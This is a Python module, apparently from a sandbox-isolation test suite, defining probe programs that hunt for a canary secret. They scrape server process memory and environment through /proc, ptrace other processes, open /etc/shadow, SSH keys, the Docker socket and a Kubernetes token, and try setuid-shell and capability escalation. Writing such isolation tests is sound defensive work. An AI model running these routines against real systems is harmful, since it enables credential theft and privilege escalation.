"""Programs that look for secrets: a canary in a file, in the server's environment, in another submission.

The canary is a word of a known shape that no attacking program contains; `CANARY` finds it.
"""

from attacks.attack import MIB, Attack

_SCAN = """
def canaries_in(path):
    with open(path, "rb", buffering=0) as file:
        return found(CANARY.findall(file.read(1 << 24)))

def pids():
    return [name for name in os.listdir("/proc") if name.isdigit()]
"""

_SCAN_MEMORY = """
def canaries_in_memory(pid):
    words = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            bounds, rights = line.split()[:2]
            start, end = (int(bound, 16) for bound in bounds.split("-"))
            if "r" not in rights or "[v" in line or end - start > 1 << 28:
                continue
            try:
                memory.seek(start)
                words += CANARY.findall(memory.read(end - start))
            except (OSError, OverflowError, ValueError):
                continue
    return found(words)
"""

ATTACKS = [
    Attack(
        name="environments",
        code=_SCAN
        + """
attempt_here("own environment", lambda: found(CANARY.findall(repr(os.environ).encode())))
for pid in pids():
    for name in ("environ", "cmdline"):
        attempt_here(f"{name} of {pid if pid != str(TARGET['server_pid']) else 'server'}", canaries_in, f"/proc/{pid}/{name}")
""",
        reached_in_tier_d=("environ of server",),
    ),
    Attack(
        name="own_memory",
        code=_SCAN_MEMORY + "attempt_here('memory', canaries_in_memory, 'self')",
    ),
    Attack(
        name="own_memory_with_numpy_and_sympy",
        limits={"memory_bytes": 512 * MIB, "cpu_time_s": 3.0},
        code="import numpy, sympy\n" + _SCAN_MEMORY + "attempt_here('memory', canaries_in_memory, 'self')",
    ),
    Attack(
        name="memory_of_others",
        code=_SCAN
        + _SCAN_MEMORY
        + """
for pid in sorted(pids(), key=lambda pid: pid != str(TARGET["server_pid"])):
    if int(pid) != os.getpid():
        attempt_here(f"memory of {pid if pid != str(TARGET['server_pid']) else 'server'}", canaries_in_memory, pid)
""",
        reached_in_tier_d=("memory of server",),
    ),
    Attack(
        name="debugger",
        code="""
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
others = [pid for pid in (1, os.getppid(), TARGET['server_pid'], TARGET['victim_pid']) if pid != os.getpid()]
for pid in others:
    who = {TARGET['victim_pid']: 'victim'}.get(pid, pid)
    attempt(f"ptrace {who}", syscall, 101, PTRACE_SEIZE, pid, 0, 0)
    attempt(f"process_vm_readv {who}", passes_the_check, 310, pid, 0, 0, 0, 0, 1)
    attempt(f"process_vm_writev {who}", passes_the_check, 311, pid, 0, 0, 0, 0, 1)
    attempt(f"kcmp {who}", syscall, 312, pid, os.getpid(), 0, 0, 0)
    attempt(f"pidfd_getfd {who}", lambda: syscall(438, syscall(434, pid, 0), 0, 0))
    for name in ("fd/0", "fd/3", "cwd", "root", "exe"):
        attempt(f"readlink {name} {who}", os.readlink, f"/proc/{pid}/{name}")
""",
        reached_in_tier_d=("ptrace victim", "readlink cwd victim"),
    ),
    Attack(
        name="files_of_the_server",
        code=_SCAN
        + """
for prefix in ("", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../..", f"/proc/{TARGET['server_pid']}/root"):
    attempt_here("canary file" + (f" below {prefix}" if prefix else ""), canaries_in, prefix + TARGET["canary_file"])
for path in ("/etc/shadow", "/etc/sudoers", "/root/.ssh", "/root/.bash_history", "/root/.profile", "/var/log", "/home",
             "/run/systemd", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/var/lib", "/boot", "/srv",
             *(["/mnt"] if os.path.realpath("/mnt") != "/sandbox" else []),
             "/var/run/secrets/kubernetes.io/serviceaccount/token"):
    attempt_here(f"open {path}", os.open, path, os.O_RDONLY)
""",
        reached_in_tier_d=("canary file",),
    ),
    Attack(
        name="walk_of_the_whole_tree",
        code="""
deadline = time.monotonic() + 2
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if not (folder == "/" and name in ("proc", "sys"))]
    if TARGET["folder_name"] in folders or os.path.basename(TARGET["canary_file"]) in files:
        say(f"reached: {folder} shows what is the server's")
    if time.monotonic() > deadline:
        break
""",
        limits={"cpu_time_s": 3},
    ),
    Attack(
        name="writable_places",
        code="""
OWN = tuple(os.path.realpath(path) for path in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"))
deadline = time.monotonic() + 2
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if not (folder == "/" and name in ("proc", "sys"))]
    real = os.path.realpath(folder)
    if real.startswith(OWN):
        folders.clear()
        continue
    try:
        os.close(os.open(os.path.join(folder, "left-by-an-attack"), os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
    else:
        os.unlink(os.path.join(folder, "left-by-an-attack"))
        say(f"reached: {folder} can be written")
    for name in files[:50]:
        if os.access(os.path.join(folder, name), os.W_OK) and not os.path.islink(os.path.join(folder, name)) \\
                and not folder.startswith("/dev"):
            say(f"reached: {folder}/{name} can be written")
    if time.monotonic() > deadline:
        break
""",
        limits={"cpu_time_s": 3},
    ),
    Attack(
        name="rights_and_times_of_files_of_others",
        code="""
paths = [TARGET["canary_file"], os.path.dirname(TARGET["canary_file"]), os.path.dirname(os.getcwd()), os.__file__]
for path in paths:
    attempt(f"mode of {path}", changes, path, os.chmod, 0o755)
    attempt(f"times of {path}", changes, path, os.utime, (0, 0))
    attempt(f"owner of {path}", changes, path, os.chown, os.getuid(), os.getgid())
    attempt(f"attribute of {path}", changes, path, os.setxattr, "user.left", b"by an attack")
attempt("mode of an open file of the interpreter", changes, os.open(os.__file__, os.O_RDONLY), os.fchmod, 0o644)
""",
    ),
    Attack(
        name="what_a_neighbour_or_a_predecessor_left",
        code="""
own = os.path.basename(sys.argv[0])
shown = [path.split("/")[2] for path in (sys.prefix, sys.base_prefix) if path.startswith("/tmp/")]
for folder, allowed in (("/tmp", shown), ("/dev/shm", ()), ("/var/tmp", ()), (os.getcwd(), (own,))):
    try:
        names = [name for name in os.listdir(folder) if name not in allowed]
    except OSError as error:
        say(f"refused: {folder} - {error}")
        continue
    for name in names:
        if not os.path.samefile(folder, os.getcwd()) or name != own:
            say(f"reached: {folder}/{name}")
others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid())]
for pid in others:
    say(f"reached: process {pid}")
""",
        reached_in_tier_d=("process",),
    ),
    Attack(
        name="devices",
        code="""
import stat
HARMLESS = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2)}  # null zero full random urandom tty ptmx
for folder, folders, files in os.walk("/dev"):
    for name in files:
        path = os.path.join(folder, name)
        try:
            status = os.lstat(path)
        except OSError:
            continue
        number = os.major(status.st_rdev), os.minor(status.st_rdev)
        if "watchdog" in name:
            say(f"reached: {path}")  # to open it would start it
        elif stat.S_ISBLK(status.st_mode) or stat.S_ISCHR(status.st_mode) and number not in HARMLESS:
            try:
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            except OSError:
                continue
            say(f"reached: {path}")
def disk():
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    return os.open("disk", os.O_RDONLY)
def memory():
    os.mknod("memory", 0o600 | stat.S_IFCHR, os.makedev(1, 1))
    return os.open("memory", os.O_RDONLY)
attempt("a disk of our own", disk)
attempt("a memory device of our own", memory)
""",
    ),
    Attack(
        name="kernel_memory_and_logs",
        code="""
buffer = ctypes.create_string_buffer(1024)
attempt("kernel log", syscall, 103, 3, buffer, 1024)
for path in ("/dev/kmsg", "/proc/kmsg", "/proc/kcore", "/dev/mem", "/proc/kpagecount", "/proc/kpageflags",
             "/sys/kernel/debug/tracing/trace", "/sys/kernel/security/lsm", "/proc/1/stack", "/proc/timer_list",
             "/proc/slabinfo", "/proc/vmallocinfo", "/proc/sched_debug", "/sys/fs/bpf"):
    attempt(f"read {path}", lambda: found(open(path, "rb").read(16)))
def addresses():
    with open("/proc/kallsyms") as file:
        return found([line for _, line in zip(range(50), file) if not line.startswith("0000000000000000")])
attempt("kernel addresses", addresses)
""",
    ),
    Attack(
        name="handles_of_files",
        code="""
handle = struct.pack("=IiQ", 8, 1, 2) + bytes(64)
attempt("open_by_handle_at", passes_the_check, 304, os.open(".", os.O_RDONLY), ctypes.create_string_buffer(handle), os.O_RDONLY)
""",
    ),
    Attack(
        name="rights_of_others",
        code="""
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
    if int(status[name], 16):
        say(f"reached: {name} {status[name]}")
if status["NoNewPrivs"].strip() != "1":
    say("reached: new privileges by setuid programs")
def is_the_machines(table):
    return open(f"/proc/self/{table}").read().split() == ["0", "0", "4294967295"]  # not that of a namespace
for table, name in (("uid_map", "Uid"), ("gid_map", "Gid"), ("gid_map", "Groups")):
    if "0" in status.get(name, "").split() and is_the_machines(table):
        say(f"reached: root of the machine, by {name}")
def become(change, table):
    change(0)
    return found(is_the_machines(table))
attempt("setuid", become, os.setuid, "uid_map")
attempt("setgid", become, os.setgid, "gid_map")
attempt("setgroups", os.setgroups, [0])
attempt("setresuid of the neighbour", os.setresuid, os.getuid() + 1, os.getuid() + 1, os.getuid() + 1)
every_one = struct.pack("=IIIIII", *[0xFFFFFFFF] * 6)
attempt("take capabilities", passes_the_check, 126, struct.pack("=II", 0x20080522, 0), every_one)
attempt("ambient capability", syscall, 157, 47, 2, 21, 0, 0)
def chmod_setuid():
    with open("shell", "wb") as file:
        file.write(open("/bin/sh", "rb").read())
    os.chmod("shell", 0o6755)
    output = os.popen("./shell -pc 'id -u'").read().strip()
    return found(output == "0" and is_the_machines("uid_map") and "a root shell")
attempt("a setuid file of our own", chmod_setuid)
for path in ("/bin/su", "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/newgrp", "/usr/bin/chsh", "/bin/mount"):
    def run_as_owner():
        import subprocess
        code = "import os; print(os.geteuid())"
        seen = subprocess.run([path, "--version"], capture_output=True, preexec_fn=lambda: None)
        return found(os.statvfs(path).f_flag & os.ST_NOSUID == 0 and status["NoNewPrivs"].strip() != "1" and path)
    attempt(f"setuid program {path}", run_as_owner)
""",
    ),
    Attack(
        name="ipc_of_others",
        code="""
def attach():
    found(_libc.shmget(TARGET["ipc_key"], 0, 0) >= 0)
    return "shared memory of somebody else"
attempt("System V shared memory", attach)
attempt("System V messages", lambda: found(_libc.msgget(TARGET["ipc_key"], 0) >= 0))
attempt("POSIX shared memory", lambda: open("/dev/shm/" + TARGET["shm_name"], "rb").read())
attempt("POSIX messages", lambda: found(_libc.mq_open(("/" + TARGET["shm_name"]).encode(), 0) >= 0))
for table in ("shm", "msg", "sem"):
    attempt(f"list of {table}", lambda: found(open(f"/proc/sysvipc/{table}").read().splitlines()[1:]))
""",
        reached_in_tier_d=("System V shared memory", "System V messages", "POSIX shared memory"),
    ),
    Attack(
        name="key_rings",
        code="""
KEYCTL_GET_KEYRING_ID, KEYCTL_DESCRIBE, KEYCTL_READ = 0, 6, 11
attempt("add a key", syscall, 248, b"user", b"attack", b"x", 1, -4)  # to the ring of this user
attempt("request a key", syscall, 249, b"user", b"attack", 0, -4)
for ring in range(-1, -9, -1):
    attempt(f"key ring {ring}", syscall, 250, KEYCTL_GET_KEYRING_ID, ring, 1)
attempt("list of keys", lambda: found(open("/proc/keys").read()))
""",
        reached_in_tier_d=("key ring -4",),
    ),
    Attack(
        name="watch_of_files",
        code="""
attempt("fanotify", syscall, 300, 0, 0)
def watch():
    watcher = syscall(253)
    return syscall(254, watcher, os.path.dirname(TARGET["canary_file"]).encode(), 0xFFF)
attempt("inotify of the server's folder", watch)
""",
        reached_in_tier_d=("inotify of the server's folder",),
    ),
]
